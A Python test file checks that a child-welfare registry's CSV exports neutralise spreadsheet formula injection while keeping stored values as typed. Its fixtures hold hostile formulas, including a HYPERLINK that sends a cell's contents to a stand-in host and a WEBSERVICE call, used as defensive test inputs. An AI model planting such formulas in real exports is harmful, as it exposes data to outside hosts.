"""CSV exports carry no formula into Excel or WPS: a value that starts one comes out with a leading apostrophe, and
the record itself keeps the value as it was typed.

The exports, all written by backbone/csvexport.py: the registry's /children/export and /volunteers/export hold what
coordinators typed (names, places, guardians, availability) and are tested here with hostile values; matching's
/views/pairings/export, /views/engagement/export, /views/volunteers/export and /views/summary/export hold ids,
vocabulary words, dates, amounts and counts only: they are exported here from a county with a pairing, a visit, a
wish and aid whose free text (a note, a wish's item) is a formula, and no cell of theirs may start one.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx

from backbone.clock import SettableClock
from backbone.csvexport import neutralised
from backbone.settings import Settings
from services.matching.app import create_app as create_matching_app
from services.registry.app import create_app as create_registry_app
from tests.helpers import RegistryEvents, auth, campaign, child_registration, keys, token, wait_until
from tests.integration.test_engagement import paired_child

XINGAN = "450325"
COORDINATOR = auth("coordinator", [XINGAN])
CHILD = child_registration(
    name='=HYPERLINK("http://x.example/?"&A1,"打开")',
    category="left_behind",
    county_code=XINGAN,
    township="=1+1",
    village="+1",
    guardian_name="@SUM(1)",
)
VOLUNTEER = {
    "name": "-2+3",
    "phone": "13907731234",
    "kind": "caring_parent",
    "county_code": XINGAN,
    "township": "=1+1",
    "village": "@SUM(1)",
    "availability": '=WEBSERVICE("http://x.example/")',
}
CAMPAIGN = "7b0c5a1e-2f4d-4c1b-9a55-3d8e6f1a2b40"
FREE_TEXT_EXPORTS = {"/children/export", "/volunteers/export"}
COUNTS_ONLY_EXPORTS = {
    "/views/pairings/export",
    "/views/engagement/export",
    "/views/volunteers/export",
    "/views/summary/export",
}


def exported(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def runs_nothing(cell: str) -> bool:
    """Whether a spreadsheet shows the cell as it is: a plain number, or text that does not start a formula (the
    exports' own rule leaves such a cell unchanged)."""
    return neutralised(cell) == cell


async def test_a_child_whose_fields_are_formulas_is_exported_as_text_and_kept_as_typed(
    registry: httpx.AsyncClient,
) -> None:
    created = await registry.post("/children", json=CHILD, headers=COORDINATOR)
    assert created.status_code == 201, created.text
    [row] = exported(await registry.get("/children/export", params={"county_code": XINGAN}, headers=COORDINATOR))
    assert {field: row[field] for field in ("name", "township", "village", "guardian_name")} == {
        "name": "'" + CHILD["name"],
        "township": "'=1+1",
        "village": "'+1",
        "guardian_name": "'@SUM(1)",
    }
    assert (row["guardian_phone"], row["birth_date"], row["county_code"]) == ("13907730001", "2016-05-20", XINGAN)
    read = (await registry.get(f"/children/{created.json()['id']}", headers=COORDINATOR)).json()
    assert {field: read[field] for field in ("name", "township", "village", "guardian_name")} == {
        field: CHILD[field] for field in ("name", "township", "village", "guardian_name")
    }


async def test_a_volunteer_whose_fields_are_formulas_is_exported_as_text_and_kept_as_typed(
    registry: httpx.AsyncClient,
) -> None:
    created = await registry.post("/volunteers", json=VOLUNTEER, headers=COORDINATOR)
    assert created.status_code == 201, created.text
    [row] = exported(await registry.get("/volunteers/export", params={"county_code": XINGAN}, headers=COORDINATOR))
    assert {field: row[field] for field in ("name", "township", "village", "availability")} == {
        "name": "'-2+3",
        "township": "'=1+1",
        "village": "'@SUM(1)",
        "availability": "'" + VOLUNTEER["availability"],
    }
    assert (row["phone"], row["capacity"], row["service_hours"]) == ("13907731234", "1", "0.0")
    read = (await registry.get(f"/volunteers/{created.json()['id']}", headers=COORDINATOR)).json()
    assert read["name"] == "-2+3"
    assert read["availability"] == VOLUNTEER["availability"]


def test_every_csv_export_of_the_services_is_one_named_here() -> None:
    """A new export is either tested above with hostile values or shown to carry no free text."""
    settings = Settings(database_url="sqlite+aiosqlite:///:memory:", nats_url="nats://127.0.0.1:1", **keys().settings())
    exports = {
        path
        for app in (create_registry_app(settings), create_matching_app(settings))
        for path, operations in app.openapi()["paths"].items()
        if "text/csv" in operations.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    }
    assert exports == FREE_TEXT_EXPORTS | COUNTS_ONLY_EXPORTS


async def test_matchings_exports_of_a_county_with_a_pairing_a_visit_a_wish_and_aid_start_no_formula(
    matching: httpx.AsyncClient, registry_events: RegistryEvents, clock: SettableClock
) -> None:
    await registry_events.emit(campaign(CAMPAIGN, XINGAN))
    volunteer, proposal = await paired_child(matching, registry_events)
    child, pairing = proposal["child_id"], proposal["pairing_id"]
    visit = {
        "kind": "visit",
        "in_person": True,
        "occurred_at": (clock.now() - timedelta(hours=1)).isoformat(),
        "duration_minutes": 45,
        "campaign_id": CAMPAIGN,
        "note": '=HYPERLINK("http://x.example/","打开")',
    }
    wish = {"child_id": child, "item": "=1+1 书包", "category": "study", "estimated_value_yuan": "80.00"}
    aid = {"campaign_id": CAMPAIGN, "kind": "warm_pack", "quantity": 1, "value_yuan": "363.64", "child_ids": [child]}
    as_volunteer = {"Authorization": f"Bearer {token('volunteer', sub=str(volunteer))}"}
    for path, body, headers in (
        (f"/pairings/{pairing}/contacts", visit, as_volunteer),
        ("/wishes", wish | {"campaign_id": CAMPAIGN}, COORDINATOR),
        ("/aid-distributions", aid, COORDINATOR),
    ):
        answer = await matching.post(path, json=body, headers=headers)
        assert answer.status_code == 201, (path, answer.text)
    county = {"county_code": XINGAN}
    exports: dict[str, list[dict[str, str]]] = {}

    async def all_counted() -> bool:
        for path, params in (
            ("/views/pairings/export", county),
            ("/views/engagement/export", county),
            ("/views/volunteers/export", county),
            ("/views/summary/export", {"code": XINGAN, "campaign_id": CAMPAIGN}),
        ):
            exports[path] = exported(await matching.get(path, params=params, headers=COORDINATOR))
        [summary] = exports["/views/summary/export"]
        [activity] = exports["/views/volunteers/export"]
        return (activity["visits"], summary["visits"], summary["wishes.posted"], summary["aid.warm_pack.children"]) == (
            "1",
            "1",
            "1",
            "1",
        )

    await wait_until(all_counted, what="the visit, the wish and the aid in every export")
    assert set(exports) == COUNTS_ONLY_EXPORTS
    [paired] = exports["/views/pairings/export"]
    [engaged] = exports["/views/engagement/export"]
    assert (paired["pairing_id"], paired["status"], engaged["child_id"], engaged["volunteer_id"]) == (
        pairing,
        "confirmed",
        child,
        str(volunteer),
    )
    cells = {(path, column): value for path, rows in exports.items() for row in rows for column, value in row.items()}
    assert [where for where, value in cells.items() if not runs_nothing(value)] == []
    assert not any(value.lstrip("'").startswith(("=HYPERLINK", "=1+1")) for value in cells.values())  # no free text
